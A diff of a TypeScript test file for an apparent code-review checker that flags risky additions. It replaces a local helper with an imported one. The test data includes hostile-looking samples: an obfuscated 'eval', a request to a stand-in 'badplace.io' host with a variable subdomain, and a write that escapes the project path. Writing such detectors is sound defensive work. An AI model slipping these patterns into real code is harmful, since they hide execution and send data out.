@@ -1,13 +1,5 @@
 import { expect, test } from "vitest";
-import { taskSpec } from "../testing/fixtures.ts";
-import type { Change } from "./changes.ts";
-import { constitutionCheck } from "./constitution.ts";
-
-const added = (path: string, after: string): string[] => {
-  const change: Change = { path, status: "added", before: null, after, special: null };
-  const { hits } = constitutionCheck([change], taskSpec({ title: "Tidy", text: "" }), []);
-  return [...new Set(hits.map(({ rule }) => rule))];
-};
+import { brokenByNew } from "../testing/changed.ts";
 
 test.each([
   ["hidden-code", "a.js", 'const word = ["e", "v", "a", "l"].join("");'],
@@ -63,7 +55,7 @@ test.each([
     "import https from 'https';\nhttps.request({ hostname: `${a}.badplace.io` });",
   ],
   ["path-escape", "a.js", 'fs.writeFileSync("C:/x.txt", text);'],
-])("%s is caught in %s: %s", (rule, path, text) => expect(added(path, text)).toContain(rule));
+])("%s is caught in %s: %s", (rule, path, text) => expect(brokenByNew(path, text)).toContain(rule));
 
 test.each([
   [
@@ -85,4 +77,4 @@ test.each([
     "a.d.ts",
     "export const place: 'https://badplace.io';\nexport declare function eval(a: string): void;",
   ],
-])("honest %s passes: %s", (path, text) => expect(added(path, text)).toEqual([]));
+])("honest %s passes: %s", (path, text) => expect(brokenByNew(path, text)).toEqual([]));
